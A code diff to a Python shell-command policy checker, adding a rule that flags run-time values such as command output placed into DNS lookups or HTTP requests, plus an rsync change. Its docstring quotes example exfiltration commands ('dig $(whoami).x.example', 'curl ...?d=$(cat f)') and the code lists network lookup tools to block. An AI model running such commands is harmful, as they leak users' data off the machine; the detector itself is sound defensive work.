@@ -1,16 +1,41 @@
 """The network: sending data (``curl -d``, ``wget --post-data``, ``http POST``), raw connections and
-remote shells, file transfers, and acting on GitHub."""
+remote shells, file transfers, acting on GitHub, and values computed at run time put into a name
+lookup or a request (``dig $(whoami).x.example``, ``curl https://x.example/?d=$(cat f)``): the
+classic way out for data when only DNS leaves the machine."""
 
 from __future__ import annotations
 
 import re
 from collections.abc import Callable
 
-from tools.shell_policy.verdict import MODERATE, Verdict, _bad, _show
+from tools.shell_policy.accounts import _keeps_mode
+from tools.shell_policy.names import _canonical
+from tools.shell_policy.verdict import MODERATE, SAFE, Verdict, _bad, _show
 from tools.shell_policy.walk import _Call
-from tools.shell_policy.words import _opts
+from tools.shell_policy.words import _opts, _Word
 
 _SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
+LOOKUPS = frozenset(
+    """dig nslookup host drill kdig delv ping ping6 traceroute traceroute6 tracepath mtr arping fping whois nmap
+    resolvectl""".split()
+)
+_REQUESTS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "aria2c"})  # the rest ask anyway
+_COMPUTED = re.compile(r"\$\(|`|<\(")
+
+
+def _sends_runtime(c: _Call, head: _Word) -> Verdict:
+    """A value computed at run time in a name lookup (any ``$``), or a command's output (``$(...)``,
+    backticks) in what a network program sends."""
+    prog = _canonical(c.name)
+    if prog in LOOKUPS:
+        for w in c.args:
+            if w.text is None and not w.procsub:
+                return _bad(f"puts a value computed at run time into a network lookup ({c.name} {w.show})")
+    elif prog in _REQUESTS:
+        for w in c.args:
+            if w.text is None and _COMPUTED.search(w.raw):
+                return _bad(f"sends a value computed at run time over the network ({c.name} {w.show})")
+    return SAFE
 
 
 def _curl(c: _Call) -> Verdict:
@@ -95,7 +120,8 @@ def _rsync(c: _Call) -> Verdict:
             return _bad(f"deletes files ({c.name} {name})")
     if any(_is_remote(w.text or "") for w in o.pos):
         return _bad(f"transfers files to or from a remote host ({c.name})")
-    return c.targets_outside(o.pos[-1:] if len(o.pos) > 1 else [], c.name)
+    verdict = c.targets_outside(o.pos[-1:] if len(o.pos) > 1 else [], c.name)
+    return _keeps_mode(c, o.pos[:-1]) if verdict == MODERATE else verdict
 
 
 def _rclone(c: _Call) -> Verdict:
